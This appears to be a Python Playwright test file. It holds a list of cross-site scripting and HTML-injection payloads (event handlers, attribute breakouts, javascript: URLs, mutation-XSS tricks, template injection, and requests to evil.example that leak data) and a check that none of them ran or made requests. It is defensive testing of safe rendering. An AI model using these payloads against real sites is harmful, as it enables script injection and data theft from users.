"""Texts that would run, fetch or make something in a page that took them for HTML; and the law."""

from playwright.sync_api import Page

HOSTILE = (
    '<img src=x onerror="window.ran=1">',
    "<script>window.ran=2</script>",
    "</textarea></pre></code></summary></details></table></div><script>window.ran=3</script>",
    '"><svg onload="window.ran=4"></svg>',
    "' autofocus onfocus='window.ran=5' x='",
    '" data-press="vote" data-key="1" onmouseover="window.ran=6" x="',
    "[link](javascript:window.ran=7) <javascript:window.ran=8> [a](vbscript:x) [b](  javascript:x)",
    "[data](data:text/html,<script>window.ran=9</script>)",
    "![secret](https://evil.example/?q=secret) <img srcset=https://evil.example/a>",
    "<iframe srcdoc='<script>parent.ran=10</script>'></iframe><object data=https://evil.example>",
    "<style>@import url(https://evil.example/b.css);*{background:url(https://evil.example/c)}</style>",
    "<link rel=stylesheet href=https://evil.example/d><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=11></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=12>'></noscript>",
    "<form action=https://evil.example><input name=q autofocus><button>go</button></form>",
    "<a href=https://evil.example/e ping=https://evil.example/f download>x</a>",
    "<details open ontoggle=window.ran=13><video><source onerror=window.ran=14></video>",
    "&lt;img src=x onerror=window.ran=15&gt; &#60;script&#62;window.ran=16&#60;/script&#62;",
    "`<b onclick=window.ran=17>` ```html\n<img src=x onerror=window.ran=18>\n```",
    "\\u003cimg src=x onerror=window.ran=19\\u003e {{constructor.constructor('window.ran=20')()}}",
    "<template><img src=x onerror=window.ran=21></template><base href=https://evil.example/>",
    "<!--><img src=x onerror=window.ran=22>--> <![CDATA[<img src=x onerror=window.ran=23>]]>",
    "\u202e<img src=x onerror=window.ran=24>\u2066 \x1b[2J \x00 \ud800",
    '$(window.ran=25) <x onpointerenter="window.ran=26" style="position:fixed;inset:0">over</x>',
)
"""A corpus: elements, attributes, ends of what could stand around, Markdown, entities, controls."""

ALL = "\n".join(HOSTILE)

_MADE = (
    *("img", "script", "iframe", "object", "embed", "video", "audio", "source", "link", "meta"),
    *("base", "form", "math", "template", "noscript", "x", "svg", "[srcset]", "[ping]"),
    *("[onerror]", "[onload]", "[onfocus]", "[onmouseover]", "[onclick]", "[ontoggle]"),
    *("[autofocus]", 'a:not([href^="http"])'),
)


def assert_dead(page: Page, inside: str) -> None:
    """Hold that nothing of the corpus ran, became a node inside, or left the machine.

    Everything that can be opened is opened, hovered over and focused first.
    """
    page.evaluate(
        """inside => {
          for (const root of document.querySelectorAll(inside)) {
            for (const each of root.querySelectorAll("details")) each.open = true;
            for (const each of root.querySelectorAll("*")) {
              each.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
              each.dispatchEvent(new PointerEvent("pointerenter", { bubbles: true }));
            }
          }
        }""",
        inside,
    )
    made = ", ".join(f":is({inside}) {each}" for each in _MADE)
    elements = page.locator(made).evaluate_all("found => found.map(each => each.outerHTML)")
    assert elements == []
    styles = page.locator(f":is({inside}) style").all_text_contents()
    assert not [each for each in styles if "evil" in each]
    assert page.evaluate("() => window.ran") is None
    assert page.requested == []  # type: ignore[attr-defined] - set when the page was opened
